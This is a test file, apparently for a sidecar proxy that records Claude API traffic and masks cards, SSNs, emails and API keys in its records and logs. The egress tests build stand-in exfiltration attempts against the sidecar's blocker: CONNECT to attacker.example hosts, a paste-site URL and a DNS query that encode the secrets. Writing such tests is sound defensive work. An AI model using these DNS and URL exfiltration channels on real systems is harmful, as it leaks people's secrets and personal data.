// The record journal tells the recorder a session is new only once, with its first event: the
// recorder then holds the head, and should it forget it (it keeps a bounded number of heads), the
// next event must read the head back from the store instead of starting the chain again at seq 0.
// And whatever a rewriting masking mode forwarded, the record gets the record's masking (server
// tool results, metadata.user_id, thinking), reusing the mode's copy when that is the same.
// Through a real sidecar in record mode: nothing the skill or Claude can write reaches the record
// raw — a batch's JSONL results, a policy's reason and a refusal's message that quote the request,
// "protocol" header values and the path, an answer's header values, an egress attempt's DNS name,
// host or URL. Nor do lock and revocation events, nor the log lines of decisions, egress attempts,
// locks and request ends (masked by the record's masker, left out without one).
import { createHash } from 'node:crypto';
import dgram from 'node:dgram';
import { existsSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import net from 'node:net';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import { pino } from 'pino';
import type { SessionRecorder } from '@skillgate/record/recorder';
import type { MaskingSpec, SkillIdentity } from '@skillgate/api';
import { sessionIdForKey } from '@skillgate/record/session-key';
import { recordJournal } from '../src/record-journal.js';
import { MaskerBook, maskingVerdict } from '../src/masking-modes.js';
import { createLogger } from '../src/log.js';
import { logJournal, withLogLines } from '../src/ports/journal.js';
import { TEXT_NOT_LOGGED, loggedError, loggedText } from '../src/log.js';
import type { Exchange } from '../src/exchange.js';
import { OK_ANSWER, startLocalSidecar, type LocalSidecar } from './local-sidecar.js';

const identity = { namespace: 'team-a', serviceAccount: 'sa', pod: 'p', skill: 'triage', owner: 'carol@example.com' };

test('a minted session is new for its first event only', async () => {
  const calls: Array<{ sessionId: string; kind: string; newSession: boolean | undefined }> = [];
  const recorder = {
    append: (draft: { sessionId: string; kind: string }, opts?: { newSession?: boolean }) => {
      calls.push({ sessionId: draft.sessionId, kind: draft.kind, newSession: opts?.newSession });
      return Promise.resolve({});
    },
    later: (task: () => void) => task(), // run at once: these tests read what was appended right after
  } as unknown as SessionRecorder;
  const journal = recordJournal({ recorder, masker: () => undefined, recording: () => undefined, identity: () => identity, log: createLogger('silent') });
  const exchange = (id: string) => ({
    id, identity, req: { method: 'POST', headers: {} }, url: '/v1/messages', route: { kind: 'messages', body: 'inspect' },
    body: Buffer.from('{}'), request: { model: 'claude-sonnet-4-6', messages: [] },
  }) as unknown as Exchange;
  for (const id of ['req_1', 'req_2']) {
    const x = exchange(id);
    x.sessionId = journal.sessionFor(x);
    await journal.request(x);
    journal.responseHead(x, { 'content-type': 'application/json' }, false);
    journal.responseBody(x, Buffer.from('{}'));
  }
  expect(new Set(calls.map((c) => c.sessionId)).size).toBe(1);
  expect(calls.map((c) => [c.kind, c.newSession])).toEqual([['request', true], ['response', false], ['request', false], ['response', false]]);
});

test('a hold, its approval and the request are sealed in that order; the answer\'s events after, by work handed to later()', async () => {
  const kinds: string[] = [];
  const queued: Array<() => void> = [];
  const recorder = {
    append: (draft: { kind: string }) => { kinds.push(draft.kind); return Promise.resolve({}); },
    later: (task: () => void) => { queued.push(task); },
  } as unknown as SessionRecorder;
  const journal = recordJournal({ recorder, masker: () => undefined, recording: () => undefined, identity: () => identity, log: createLogger('silent') });
  const x = {
    id: 'req_held', identity, req: { method: 'POST', headers: {} }, url: '/v1/messages', route: { kind: 'messages', body: 'inspect' },
    body: Buffer.from('{}'), request: { model: 'claude-sonnet-4-6', messages: [] }, receivedAt: process.hrtime.bigint(), bytesOut: 2, upstreamStatus: 200,
  } as unknown as Exchange;
  x.sessionId = journal.sessionFor(x);
  journal.decision(x, { action: 'hold', rule: 'refunds' });
  journal.approval(x, { approval: 'sa-1', state: 'held' });
  journal.approval(x, { approval: 'sa-1', state: 'approved', by: 'alice@example.com' });
  await journal.request(x);
  journal.responseHead(x, { 'content-type': 'application/json' }, false);
  journal.responseBody(x, Buffer.from('{}'));
  journal.end(x);
  expect(kinds).toEqual(['decision', 'approval', 'approval', 'request']); // the approval in front of what it let through
  for (const task of queued.splice(0)) task();
  expect(kinds).toEqual(['decision', 'approval', 'approval', 'request', 'response']);
});

test('a request refused before it had a session joins the session current when it ended, even if its work runs after a new one began', async () => {
  const appended: Array<{ kind: string; sessionId: string }> = [];
  const queued: Array<() => void> = [];
  const recorder = {
    append: (draft: { kind: string; sessionId: string }) => { appended.push(draft); return Promise.resolve({}); },
    later: (task: () => void) => { queued.push(task); },
  } as unknown as SessionRecorder;
  let clock = 1_000_000;
  const journal = recordJournal({ recorder, masker: () => undefined, recording: () => undefined, identity: () => identity, log: createLogger('silent'), now: () => clock });
  const exchange = (id: string) => ({
    id, identity, req: { method: 'POST', headers: {} }, url: '/v1/messages', route: { kind: 'messages', body: 'inspect', path: '/v1/messages' },
    body: Buffer.from('{}'), request: { model: 'claude-sonnet-4-6', messages: [] }, receivedAt: process.hrtime.bigint(), bytesOut: 0,
  }) as unknown as Exchange;
  const first = exchange('req_1');
  first.sessionId = journal.sessionFor(first);
  await journal.request(first);
  // Refused before it had a session (say, a body over the limit).
  const refused = exchange('req_refused');
  Object.assign(refused, { outcome: 'refused', refusal: { status: 413, code: 'request_too_large', type: 'request_too_large', message: 'too large' } });
  journal.end(refused);
  clock += 31 * 60_000; // past the session gap: the next request starts a new session
  const next = exchange('req_2');
  next.sessionId = journal.sessionFor(next);
  expect(next.sessionId).not.toBe(first.sessionId);
  for (const task of queued.splice(0)) task();
  expect(appended.find((d) => d.kind === 'refusal')?.sessionId).toBe(first.sessionId);
});

/** A journal that keeps the drafts it would append, masking with `book`'s masker of `spec`. */
function journalOf(book: MaskerBook, spec: MaskingSpec) {
  const drafts: Array<{ kind: string; data: { body?: string } }> = [];
  const recorder = {
    append: (draft: { kind: string; data: { body?: string } }) => { drafts.push(draft); return Promise.resolve({}); },
    later: (task: () => void) => task(), // run at once: these tests read the drafts right after
  } as unknown as SessionRecorder;
  const journal = recordJournal({ recorder, masker: () => book.forSpec(spec), recording: () => undefined, identity: () => identity, log: createLogger('silent') });
  return { journal, drafts };
}

/** An exchange for a Messages request, through the masking mode of `spec` as the request path runs it. */
function maskedExchange(book: MaskerBook, spec: MaskingSpec & { mode: NonNullable<MaskingSpec['mode']> }, request: Record<string, unknown>, body = Buffer.from(JSON.stringify(request))) {
  const x = { id: 'req_1', identity, req: { method: 'POST', headers: {} }, url: '/v1/messages', route: { kind: 'messages', body: 'inspect' }, body, request } as unknown as Exchange;
  const verdict = maskingVerdict(x, spec, book, {});
  if (verdict.upstreamBody) x.upstreamBody = verdict.upstreamBody;
  return x;
}

test('server tool results reach the record masked, whatever the masking mode forwarded', async () => {
  const fetched = { type: 'web_fetch_tool_result', tool_use_id: 'srvtoolu_1', content: { type: 'web_fetch_result', url: 'https://crm.example/p',
    content: { type: 'document', source: { type: 'text', media_type: 'text/plain', data: 'Contact maria@example.com' } } } };
  const request = { model: 'claude-sonnet-4-6', max_tokens: 8, messages: [{ role: 'user', content: 'fetch it' }, { role: 'assistant', content: [fetched] }, { role: 'user', content: 'and?' }] };
  for (const mode of ['record', 'request', 'both'] as const) {
    const book = new MaskerBook('record-journal-test-key');
    const { journal, drafts } = journalOf(book, { mode });
    // Request mode forwards the server result as Claude made it.
    const x = maskedExchange(book, { mode }, request);
    expect((x.upstreamBody ?? x.body)!.toString()).toContain('maria@example.com');
    x.sessionId = journal.sessionFor(x);
    await journal.request(x);
    journal.responseHead(x, { 'content-type': 'application/json' }, false);
    journal.responseBody(x, Buffer.from(JSON.stringify({ id: 'msg_1', type: 'message', role: 'assistant', content: [fetched], stop_reason: 'end_turn' })));
    expect(drafts.map((d) => d.kind)).toEqual(['request', 'response']);
    for (const d of drafts) {
      const recorded = d.data.body;
      expect(recorded).toContain('[EMAIL_ADDRESS]');
      expect(recorded).not.toContain('maria@example.com');
    }
  }
});

test('an answer the upstream sent encoded is recorded decoded and masked; one that does not decode, by digest only', async () => {
  const answer = JSON.stringify({ id: 'msg_1', type: 'message', role: 'assistant', content: [{ type: 'text', text: 'Write to maria@example.com' }], stop_reason: 'end_turn' });
  for (const [coding, encode] of [['gzip', gzipSync], ['br', brotliCompressSync], ['deflate', deflateSync]] as const) {
    const book = new MaskerBook('record-journal-test-key');
    const { journal, drafts } = journalOf(book, { mode: 'record' });
    const request = { model: 'claude-sonnet-4-6', max_tokens: 8, messages: [{ role: 'user', content: 'hi' }] };
    const x = maskedExchange(book, { mode: 'record' }, request);
    x.sessionId = journal.sessionFor(x);
    await journal.request(x);
    const sent = encode(Buffer.from(answer));
    journal.responseHead(x, { 'content-type': 'application/json', 'content-encoding': coding }, false);
    journal.responseBody(x, sent);
    const recorded = drafts.find((d) => d.kind === 'response')!.data as { body?: string; bodySha256?: string };
    expect({ coding, body: recorded.body }).toEqual({ coding, body: answer.replace('maria@example.com', '[EMAIL_ADDRESS]') });
    expect(recorded.bodySha256).toBe(createHash('sha256').update(sent).digest('hex')); // of the bytes the skill got
  }
  // Says gzip and is not; decodes to more than the record keeps (a decompression bomb): by digest only.
  for (const [body, answerTextBytes] of [[Buffer.from(answer), undefined], [gzipSync(Buffer.alloc(64 * 1024, 'a')), 16 * 1024]] as const) {
    const book = new MaskerBook('record-journal-test-key');
    const drafts: Array<{ kind: string; data: { body?: string; bodySha256?: string } }> = [];
    const recorder = { append: (d: (typeof drafts)[number]) => { drafts.push(d); return Promise.resolve({}); }, later: (task: () => void) => task() } as unknown as SessionRecorder;
    const journal = recordJournal({ recorder, masker: () => book.forSpec({ mode: 'record' }), recording: () => undefined, identity: () => identity, log: createLogger('silent'), ...(answerTextBytes ? { answerTextBytes } : {}) });
    const x = maskedExchange(book, { mode: 'record' }, { model: 'claude-sonnet-4-6', max_tokens: 8, messages: [{ role: 'user', content: 'hi' }] });
    x.sessionId = journal.sessionFor(x);
    await journal.request(x);
    journal.responseHead(x, { 'content-type': 'application/json', 'content-encoding': 'gzip' }, false);
    journal.responseBody(x, body);
    const recorded = drafts.find((d) => d.kind === 'response')!.data;
    expect(recorded.body).toBeUndefined();
    expect(recorded.bodySha256).toMatch(/^[0-9a-f]{64}$/);
  }
});

describe('the record of a request masked by a rewriting mode', () => {
  const request = {
    model: 'claude-sonnet-4-6', max_tokens: 8, metadata: { user_id: 'jane.doe@example.com' }, stop_sequences: ['call 415-555-0132'],
    messages: [{ role: 'user', content: 'bill card 4111 1111 1111 1111' }, { role: 'assistant', content: [{ type: 'thinking', thinking: 'the card holder is john.smith@example.com', signature: 'EqQBCgIYAhIM' }, { type: 'text', text: 'ok' }] }, { role: 'user', content: 'go on' }],
  };

  test.each(['request', 'both', 'tokenize'] as const)('%s mode: what only the record masks (thinking, stop_sequences) is masked there too', async (mode) => {
    const book = new MaskerBook('record-journal-test-key');
    const { journal, drafts } = journalOf(book, { mode });
    const x = maskedExchange(book, { mode }, request);
    const forwarded = x.upstreamBody!.toString();
    expect(forwarded).not.toContain('4111 1111 1111 1111');
    expect(forwarded).not.toContain('jane.doe@example.com'); // metadata.user_id: an opaque id to the API, masked on the wire too
    // The API gets those as sent (a signed thinking block may not change).
    for (const v of ['john.smith@example.com', '415-555-0132']) expect(forwarded).toContain(v);
    x.sessionId = journal.sessionFor(x);
    await journal.request(x);
    const recorded = drafts[0]!.data.body!;
    for (const v of ['jane.doe@example.com', 'john.smith@example.com', '415-555-0132', '4111 1111 1111 1111']) expect(recorded).not.toContain(v);
    expect(JSON.parse(recorded).messages[1].content[0].signature).toBe('EqQBCgIYAhIM');
  });

  test('with nothing only the record masks, the record keeps the rewriting mode\'s copy: the body is masked once', async () => {
    const book = new MaskerBook('record-journal-test-key');
    // One spec object: the book keeps one masker per spec, whose memo shows a second walk as hits.
    const spec = { mode: 'request' } as const;
    const { journal, drafts } = journalOf(book, spec);
    const plain = { model: 'claude-sonnet-4-6', max_tokens: 8, metadata: { user_id: 'user_8c1f' }, messages: [{ role: 'user', content: 'bill card 4111 1111 1111 1111 for maria@example.com' }] };
    const x = maskedExchange(book, spec, plain);
    expect(x.maskedRequest).toBeDefined();
    const before = { ...book.forSpec(spec).memoStats()! };
    expect(before.hits + before.misses).toBeGreaterThan(0); // the wire's walk went through this memo
    x.sessionId = journal.sessionFor(x);
    await journal.request(x);
    expect(book.forSpec(spec).memoStats()).toEqual(before); // no second walk
    expect(drafts[0]!.data.body).toBe(x.maskedRequest!.text);
    expect(drafts[0]!.data.body).toBe(x.upstreamBody!.toString());
  });

  test('with nothing found, the record keeps the bytes the skill sent (as they went upstream), not a re-serialised copy', async () => {
    const book = new MaskerBook('record-journal-test-key');
    const spec = { mode: 'request' } as const;
    const { journal, drafts } = journalOf(book, spec);
    const text = '{"model":"claude-sonnet-4-6","max_tokens":8.0,"messages":[{"role":"user","content":"caf\\u00e9 au lait"}]}';
    const x = maskedExchange(book, spec, JSON.parse(text), Buffer.from(text));
    expect(x.upstreamBody).toBeUndefined();
    x.sessionId = journal.sessionFor(x);
    await journal.request(x);
    expect(drafts[0]!.data.body).toBe(text);
  });
});

describe('a sidecar in record mode records nothing the skill or Claude wrote raw', () => {
  const CARD = '4111 1111 1111 1111';
  const SSN = '536-22-8974';
  const EMAIL = 'jane.doe@example.com';
  const KEY = `sk-ant-api03-${'Q7w'.repeat(14)}AA`;
  const PHONE = '415-555-2671';
  const policy = (extra = '') => `apiVersion: skillgate.dev/v1alpha1\nkind: SkillPolicy\nmetadata: { name: rec }\nspec:\n  masking: { mode: record }\n${extra}`;

  type Recorded = Array<{ kind: string; data: Record<string, unknown> }>;

  function readRecord(dir: string): Recorded {
    const sessions = join(dir, 'records', 'sessions');
    if (!existsSync(sessions)) return [];
    return readdirSync(sessions).flatMap((f) => readFileSync(join(sessions, f), 'utf8').split('\n')).filter((l) => l.trim() !== '')
      .map((l) => JSON.parse(l) as { event?: Recorded[number] } & Partial<Recorded[number]>)
      .filter((l) => l.event ?? l.kind).map((l) => (l.event ?? l) as Recorded[number]);
  }

  /**
   * Run `exchanges` against a fresh sidecar, wait until the record holds `expected` events of each
   * kind (an exchange's last events are written after the skill has its answer), then stop the
   * sidecar and return every recorded event.
   */
  async function recordedEvents(extraPolicy: string, expected: Record<string, number>, exchanges: (s: LocalSidecar) => Promise<void>): Promise<Recorded> {
    const s = await startLocalSidecar(policy(extraPolicy), { maskingKey: 'record-journal-test-key' });
    const complete = (events: Recorded) => Object.entries(expected).every(([kind, n]) => events.filter((e) => e.kind === kind).length >= n);
    try {
      await exchanges(s);
      for (const deadline = Date.now() + 5000; Date.now() < deadline;) {
        if (complete(readRecord(s.dir))) break;
        await new Promise((resolve) => setTimeout(resolve, 10));
      }
    } finally {
      await s.sidecar.close();
      await s.upstream.close();
    }
    const events = readRecord(s.dir);
    rmSync(s.dir, { recursive: true, force: true });
    return events;
  }

  const send = (s: LocalSidecar, path: string, init: { method?: string; body?: string; headers?: Record<string, string> } = {}) =>
    fetch(`${s.sidecar.claudeUrl}${path}`, {
      method: init.method ?? 'POST', body: init.body,
      headers: { 'content-type': 'application/json', 'anthropic-version': '2023-06-01', 'x-api-key': 'k', ...init.headers },
    }).then(async (res) => ({ status: res.status, text: await res.text() }));

  function expectMasked(events: Array<{ kind: string; data: unknown }>, raw: string[], placeholders: string[]): void {
    for (const e of events) for (const v of raw) expect(`${e.kind} ${JSON.stringify(e.data)}`).not.toContain(JSON.stringify(v).slice(1, -1));
    const all = JSON.stringify(events);
    for (const p of placeholders) expect(all).toContain(p);
  }

  test('a Message Batch\'s results are masked a line at a time, each as an answer, while the skill gets them as Claude sent them', async () => {
    const answer = `Here are the customer records:\n${CARD}\n${SSN}\n(415) 555-2671 is her phone.\n${KEY}`;
    const line = (id: string) => JSON.stringify({ custom_id: id, result: { type: 'succeeded', message: {
      id: 'msg_1', type: 'message', role: 'assistant', model: 'claude-sonnet-4-6', content: [{ type: 'text', text: answer }], stop_reason: 'end_turn', usage: { input_tokens: 1, output_tokens: 1 } } } });
    const errored = JSON.stringify({ custom_id: 'r3', result: { type: 'errored', error: { type: 'error', error: { type: 'invalid_request_error', message: `messages.0: ${EMAIL} is not a role` } } } });
    const results = `${line('r1')}\n${line('r2')}\n${errored}\nnot json: ${CARD}\n`;
    let got = '';
    const events = await recordedEvents('', { response: 1 }, async (s) => {
      s.upstream.queue({ status: 200, headers: { 'content-type': 'application/binary' }, chunks: [results] });
      got = (await send(s, '/v1/messages/batches/msgbatch_01/results', { method: 'GET' })).text;
    });
    expect(got).toBe(results);
    const response = events.find((e) => e.kind === 'response')!;
    const lines = String(response.data.body).split('\n');
    expect(lines).toHaveLength(5);
    expect(JSON.parse(lines[0]!).result.message.content[0].text).toBe('Here are the customer records:\n[CREDIT_CARD]\n[US_SSN]\n[PHONE_NUMBER] is her phone.\n[SECRET]');
    expect(JSON.parse(lines[1]!).custom_id).toBe('r2');
    expect(JSON.parse(lines[2]!).result.error.error.message).toBe('messages.0: [EMAIL_ADDRESS] is not a role');
    expect(lines[3]).toBe('not json: [CREDIT_CARD]');
    expect(response.data.findings).toEqual(expect.arrayContaining([expect.objectContaining({ type: 'CREDIT_CARD', path: 'results[0].result.message.content[0].text' })]));
    expectMasked(events, [CARD, SSN, '555-2671', KEY, EMAIL], ['[CREDIT_CARD]', '[US_SSN]', '[SECRET]', '[EMAIL_ADDRESS]']);
  });

  test('a policy\'s reason and a refusal\'s message that quote the request are recorded masked; the skill is answered them whole', async () => {
    const url = `https://mcp.evil.example/sse?user=${EMAIL}&key=${KEY}`;
    let answer = '';
    const events = await recordedEvents('  mcpServers: { allowUrls: ["https://mcp.example.com/*"] }\n', { decision: 1, refusal: 1 }, async (s) => {
      answer = (await send(s, '/v1/messages', { body: JSON.stringify({ model: 'claude-sonnet-4-6', max_tokens: 5, mcp_servers: [{ type: 'url', url, name: 'x' }], messages: [{ role: 'user', content: 'hi' }] }) })).text;
    });
    expect(answer).toContain(url);
    const decision = events.find((e) => e.kind === 'decision')!;
    const refusal = events.find((e) => e.kind === 'refusal')!;
    expect(decision.data.reason).toBe('MCP server https://mcp.evil.example/sse?user=[EMAIL_ADDRESS]&key=[SECRET] is not allowed; allowed: https://mcp.example.com/*');
    expect(decision.data.findings).toEqual([expect.objectContaining({ type: 'EMAIL_ADDRESS', path: 'reason' }), expect.objectContaining({ type: 'SECRET', path: 'reason' })]);
    expect(refusal.data.message).toContain('user=[EMAIL_ADDRESS]&key=[SECRET]');
    expect(Object.keys(decision.data)).toEqual([...Object.keys(decision.data)].sort());
    expect(Object.keys(refusal.data)).toEqual([...Object.keys(refusal.data)].sort());
    expectMasked(events, [EMAIL, KEY], ['[EMAIL_ADDRESS]', '[SECRET]']);
  });

  test('requests refused before they were recorded keep no member name, JSON excerpt or path segment raw', async () => {
    const answers: string[] = [];
    const events = await recordedEvents('', { refusal: 4 }, async (s) => {
      answers.push((await send(s, '/v1/messages', { body: `{"model":"m","max_tokens":5,"messages":[{"role":"assistant","content":[{"type":"tool_use","id":"toolu_1","name":"t","input":{"${EMAIL}":1,"${EMAIL}":2}}]}]}` })).text);
      answers.push((await send(s, '/v1/messages', { body: `{"note": ${EMAIL}, "card": "${CARD}"}` })).text);
      answers.push((await send(s, '/v1/messages', { body: `{"model":"m","messages":[{"role":"user","content": card ${CARD} and more text after it"}]}` })).text);
      answers.push((await send(s, `/v1/files/${EMAIL}`, { method: 'GET' })).text);
    });
    // The skill's own answers quote its own request.
    expect(answers[0]).toContain(EMAIL);
    expect(answers[1]).toContain('jane.doe@e');
    const refusals = events.filter((e) => e.kind === 'refusal');
    expect(refusals).toHaveLength(4);
    expect(refusals[0]!.data.message).toContain('names the member "[EMAIL_ADDRESS]" twice');
    expect(refusals[1]!.data.message).toContain("Unexpected token 'j', [an excerpt of the request body, not recorded] is not valid JSON");
    expect(refusals[2]!.data.message).toContain('[an excerpt of the request body, not recorded] is not valid JSON');
    expect(refusals[3]!.data.path).toBe('/v1/files/[EMAIL_ADDRESS]');
    expectMasked(events, [EMAIL, 'jane.doe@e', CARD, '4111 '], ['[EMAIL_ADDRESS]']);
  });

  test('every request header value and the path are recorded masked, credentials dropped', async () => {
    const events = await recordedEvents('', { request: 2, response: 2 }, async (s) => {
      s.upstream.queue({ status: 200, headers: { 'content-type': 'application/json' }, chunks: ['{"ok":true}'] });
      await send(s, '/v1/files/4111-1111-1111-1111', { method: 'GET' });
      s.upstream.queue({ status: 200, headers: { 'content-type': 'application/json' }, chunks: ['{"type":"message","content":[]}'] });
      await send(s, '/v1/messages', {
        body: JSON.stringify({ model: 'claude-sonnet-4-6', max_tokens: 5, messages: [{ role: 'user', content: 'hi' }] }),
        headers: { 'user-agent': `crm-bot for ${EMAIL}`, 'x-claude-code-session-id': `call ${PHONE} re SSN ${SSN}`, 'accept-language': `en; card=${CARD}`, 'x-stainless-os': KEY },
      });
    });
    // Two sessions (the second names one), in no particular order.
    const requests = events.filter((e) => e.kind === 'request').sort((a, b) => String(a.data.path).localeCompare(String(b.data.path)));
    expect(requests.map((e) => e.data.path)).toEqual(['/v1/files/[CREDIT_CARD]', '/v1/messages']);
    expect(requests[1]!.data.headers).toEqual(expect.objectContaining({
      'user-agent': 'crm-bot for [EMAIL_ADDRESS]', 'x-claude-code-session-id': 'call [PHONE_NUMBER] re SSN [US_SSN]', 'accept-language': 'en; card=[CREDIT_CARD]',
      'x-stainless-os': '[SECRET]', 'anthropic-version': '2023-06-01', 'content-type': 'application/json',
    }));
    expect(requests[1]!.data.headers).not.toHaveProperty('x-api-key');
    expect(requests[0]!.data.findings).toEqual([expect.objectContaining({ type: 'CREDIT_CARD', path: 'path' })]);
    expectMasked(events, ['4111-1111-1111-1111', EMAIL, PHONE, SSN, CARD, KEY, 'sk-ant-'], ['[CREDIT_CARD]', '[EMAIL_ADDRESS]', '[PHONE_NUMBER]', '[US_SSN]', '[SECRET]']);
  });

  test('an answer\'s header values are recorded masked, streamed or not (a download\'s content-disposition names the file), their findings named by header', async () => {
    const disposition = `attachment; filename="card ${CARD}, SSN ${SSN}, ${EMAIL}, ${KEY}.txt"`;
    const events = await recordedEvents('', { response: 2, stream_end: 1 }, async (s) => {
      s.upstream.queue({ status: 200, headers: { 'content-type': 'application/octet-stream', 'content-disposition': disposition }, chunks: ['col\n1\n'] });
      expect((await send(s, '/v1/files/file_01/content', { method: 'GET' })).status).toBe(200);
      s.upstream.queue({
        status: 200, headers: { 'content-type': 'text/event-stream', 'x-trace-note': `for ${EMAIL} card ${CARD}` },
        chunks: ['event: message_start\ndata: {"type":"message_start","message":{"id":"msg_1","type":"message","role":"assistant","content":[],"model":"claude-sonnet-4-6"}}\n\n', 'event: message_stop\ndata: {"type":"message_stop"}\n\n'],
      });
      await send(s, '/v1/messages', { body: JSON.stringify({ model: 'claude-sonnet-4-6', max_tokens: 5, stream: true, messages: [{ role: 'user', content: 'hi' }] }) });
    });
    const responses = events.filter((e) => e.kind === 'response');
    const download = responses.find((e) => e.data.stream === false)!;
    const streamed = responses.find((e) => e.data.stream === true)!;
    expect((download.data.headers as Record<string, string>)['content-disposition']).toBe('attachment; filename="card [CREDIT_CARD], SSN [US_SSN], [EMAIL_ADDRESS], [SECRET].txt"');
    expect((download.data.headers as Record<string, string>)['content-type']).toBe('application/octet-stream');
    expect(download.data.findings).toEqual(expect.arrayContaining([
      expect.objectContaining({ type: 'CREDIT_CARD', path: 'headers.content-disposition' }), expect.objectContaining({ type: 'US_SSN', path: 'headers.content-disposition' }),
      expect.objectContaining({ type: 'EMAIL_ADDRESS', path: 'headers.content-disposition' }), expect.objectContaining({ type: 'SECRET', path: 'headers.content-disposition' }),
    ]));
    expect((streamed.data.headers as Record<string, string>)['x-trace-note']).toBe('for [EMAIL_ADDRESS] card [CREDIT_CARD]');
    expect(streamed.data.findings).toEqual([expect.objectContaining({ type: 'EMAIL_ADDRESS', path: 'headers.x-trace-note' }), expect.objectContaining({ type: 'CREDIT_CARD', path: 'headers.x-trace-note' })]);
    expect(Object.keys(download.data)).toEqual([...Object.keys(download.data)].sort());
    expect(Object.keys(streamed.data)).toEqual([...Object.keys(streamed.data)].sort());
    expectMasked(events, [CARD, SSN, EMAIL, KEY, 'sk-ant-'], ['[CREDIT_CARD]', '[US_SSN]', '[EMAIL_ADDRESS]', '[SECRET]']);
  });

  test('an egress attempt\'s DNS name, CONNECT host and URL are recorded masked, a clean host as it is', async () => {
    const exchange = (port: number, bytes: string) => new Promise<string>((resolve, reject) => {
      const socket = net.connect(port, '127.0.0.1', () => socket.write(bytes));
      let got = '';
      socket.on('data', (d: Buffer) => { got += d.toString('latin1'); });
      socket.on('close', () => resolve(got));
      socket.on('error', reject);
    });
    const dnsQuery = (name: string): Buffer => Buffer.concat([
      Buffer.from([0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]),
      ...name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l, 'latin1')])), Buffer.from([0, 0, 1, 0, 1]),
    ]);
    const events = await recordedEvents('', { egress: 4 }, async (s) => {
      const port = Number(new URL(s.sidecar.egressUrl).port);
      expect(await exchange(port, `CONNECT 4111111111111111.ssn-536-22-8974.attacker.example:443 HTTP/1.1\r\nHost: x\r\n\r\n`)).toMatch(/^HTTP\/1\.1 403/);
      expect(await exchange(port, `GET https://paste.example/u?email=${EMAIL}&card=4111111111111111&ssn=${SSN}&k=${KEY} HTTP/1.0\r\n\r\n`)).toMatch(/^HTTP\/1\.1 403/);
      expect(await exchange(port, 'CONNECT paste.example:443 HTTP/1.1\r\nHost: x\r\n\r\n')).toMatch(/^HTTP\/1\.1 403/);
      const udp = dgram.createSocket('udp4');
      try {
        await new Promise<void>((resolve) => {
          udp.once('message', () => resolve());
          udp.send(dnsQuery(`${KEY}.exfil.example`), s.sidecar.dnsPort, '127.0.0.1');
        });
      } finally {
        udp.close();
      }
    });
    const egress = events.filter((e) => e.kind === 'egress');
    expect(egress.map((e) => e.data.destination).sort()).toEqual([
      '[CREDIT_CARD].ssn-[US_SSN].attacker.example:443', '[SECRET].exfil.example',
      'https://paste.example/u?email=[EMAIL_ADDRESS]&card=[CREDIT_CARD]&ssn=[US_SSN]&k=[SECRET]', 'paste.example:443',
    ]);
    const dns = egress.find((e) => String(e.data.method).startsWith('DNS '))!;
    expect(dns.data.findings).toEqual([expect.objectContaining({ type: 'SECRET', path: 'destination' })]);
    expect(egress.find((e) => e.data.destination === 'paste.example:443')!.data).not.toHaveProperty('findings');
    for (const e of egress) expect(Object.keys(e.data)).toEqual([...Object.keys(e.data)].sort());
    expectMasked(events, ['4111111111111111', '536-22-8974', EMAIL, KEY, 'sk-ant-'], ['[CREDIT_CARD]', '[US_SSN]', '[EMAIL_ADDRESS]', '[SECRET]']);
  });

  test('a session the request names (metadata.user_id) gets an id keyed by the installation masking key: no one reading the record confirms a guess of the key', async () => {
    const events = await recordedEvents('', { request: 1 }, async (s) => {
      s.upstream.queue(OK_ANSWER);
      await send(s, '/v1/messages', { body: JSON.stringify({ model: 'claude-sonnet-4-6', max_tokens: 5, metadata: { user_id: EMAIL }, messages: [{ role: 'user', content: 'hi' }] }) });
    });
    const request = events.find((e) => e.kind === 'request') as unknown as { sessionId: string; identity: SkillIdentity };
    expect(request.sessionId).toBe(sessionIdForKey(request.identity, 'metadata-user-id', EMAIL, 'record-journal-test-key'));
    expect(request.sessionId).not.toBe(sessionIdForKey(request.identity, 'metadata-user-id', EMAIL));
  });
});

describe('events outside a request and log lines hold no raw value', () => {
  const CARD = '4111 1111 1111 1111';
  const SSN = '536-22-8974';
  const EMAIL = 'jane.doe@example.com';
  const KEY = `sk-ant-api03-${'Q7w'.repeat(14)}AA`;
  const RAW = [CARD, SSN, EMAIL, KEY, 'sk-ant-', '4111111111111111'];
  const reason = `offboarded: ${EMAIL} pasted card ${CARD}, SSN ${SSN} and key ${KEY}`;

  function capture() {
    const lines: string[] = [];
    const log = pino({ level: 'debug' }, new Writable({ write(chunk: Buffer, _enc, done) { lines.push(chunk.toString()); done(); } }));
    return { log, lines };
  }
  const expectNoneRaw = (text: string) => { for (const v of RAW) expect(text).not.toContain(v); };
  const exchange = () => ({
    id: 'req_1', req: { method: 'POST', headers: {} }, res: { headersSent: true, statusCode: 200 }, route: { kind: 'files', path: '/v1/files/file_01/content' },
    bytesIn: 0, bytesOut: 0, receivedAt: process.hrtime.bigint(), outcome: 'error', outcomeReason: `masking the download failed: the text file ${EMAIL} ${CARD}.csv is not UTF-8`,
  }) as unknown as Exchange;

  test('an internal error\'s message is logged masked (a message can quote what it failed on), its stack frames kept; without a masker, left out', () => {
    const thrown = new TypeError(`cannot read the field of {"note": "${CARD} ${EMAIL}"}`);
    const mask = (t: string) => new MaskerBook('record-journal-test-key').forSpec({ mode: 'record' }).maskText(t).masked;
    const logged = loggedError(thrown, mask);
    expect(logged.type).toBe('TypeError');
    expect(logged.message).toBe('cannot read the field of {"note": "[CREDIT_CARD] [EMAIL_ADDRESS]"}');
    expect(logged.stack).toMatch(/^    at /);
    expectNoneRaw(JSON.stringify(logged));
    expect(loggedError(thrown, undefined).message).toBe(TEXT_NOT_LOGGED);
    expect(loggedError(`plain ${EMAIL}`, mask)).toEqual({ type: 'string', message: 'plain [EMAIL_ADDRESS]' });
  });

  test('only skillgate\'s own SG_ codes pass into a log line unmasked; capitals the skill wrote (a key) do not', () => {
    const mask = (t: string) => new MaskerBook('record-journal-test-key').forSpec({ mode: 'record' }).maskText(t).masked;
    expect(loggedText('SG_IDLE_TIMEOUT', mask)).toBe('SG_IDLE_TIMEOUT');
    expect(loggedText('AKIAIOSFODNN7EXAMPLE_', mask)).not.toContain('AKIAIOSFODNN7EXAMPLE');
    expect(loggedText('AKIAIOSFODNN7EXAMPLE_', undefined)).toBe(TEXT_NOT_LOGGED);
  });

  test('a lock\'s name, target and reason and a revocation\'s reason are recorded masked, findings named by member', () => {
    const book = new MaskerBook('record-journal-test-key');
